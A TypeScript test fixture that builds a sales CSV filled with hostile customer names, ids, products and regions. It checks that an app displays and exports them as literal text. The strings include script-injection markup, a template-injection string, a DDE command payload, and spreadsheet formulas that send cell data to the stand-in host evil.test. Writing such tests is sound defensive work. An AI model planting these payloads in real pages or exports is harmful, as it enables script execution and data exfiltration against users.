/**
 * Hostile content for the tests (issue 8): names and ids that would run script if the page put
 * them into HTML, or run a formula if a spreadsheet evaluated an export. They must show as the
 * very text they are, everywhere.
 */

/** Customer names: HTML/script injection, spreadsheet formulas, template syntax. */
export const HOSTILE_NAMES = [
  '<img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.test/?d="&A1,"Click")',
  '@SUM(1)',
  "+cmd|' /C calc'!A0",
  '<script>alert("s")</script>',
  '"><svg/onload=alert(3)>',
  "{{constructor.constructor('alert(4)')()}}",
  'javascript:alert(5)',
];

/** Customer ids (they appear in the result files): formulas and markup too. */
export const HOSTILE_IDS = ['=1+1', '@A1', 'C<b>3</b>', '-2+3', 'K5', 'K6', 'K7', 'K8'];

/** Product names and a region. */
export const HOSTILE_PRODUCT = '<iframe src=javascript:alert(6)>';
export const HOSTILE_PRODUCT_FORMULA = '=IMPORTXML(CONCAT("http://evil.test/?",A1),"//a")';
export const HOSTILE_REGION = '<img src=y onerror=alert(7)>';

function field(v: string): string {
  return /[",\r\n]/.test(v) ? `"${v.replaceAll('"', '""')}"` : v;
}

/** A sales CSV over 12 months with every hostile text in names, ids, products and regions. */
export function hostileSalesCsv(): string {
  const lines = ['Order Date,Customer ID,Customer Name,Product ID,Product Name,Region,Quantity,Amount'];
  for (let m = 1; m <= 12; m++)
    HOSTILE_NAMES.forEach((name, i) => {
      const product = i % 2 ? HOSTILE_PRODUCT : HOSTILE_PRODUCT_FORMULA;
      const region = i % 3 ? HOSTILE_REGION : '华东';
      const amount = (i + 1) * 100 + m;
      lines.push(
        [
          `2024-${String(m).padStart(2, '0')}-${String(i + 1).padStart(2, '0')}`,
          HOSTILE_IDS[i],
          name,
          i % 2 ? 'P<1>' : '=P2',
          product,
          region,
          String(i + 1),
          String(amount),
        ]
          .map(field)
          .join(','),
      );
    });
  return lines.join('\n') + '\n';
}
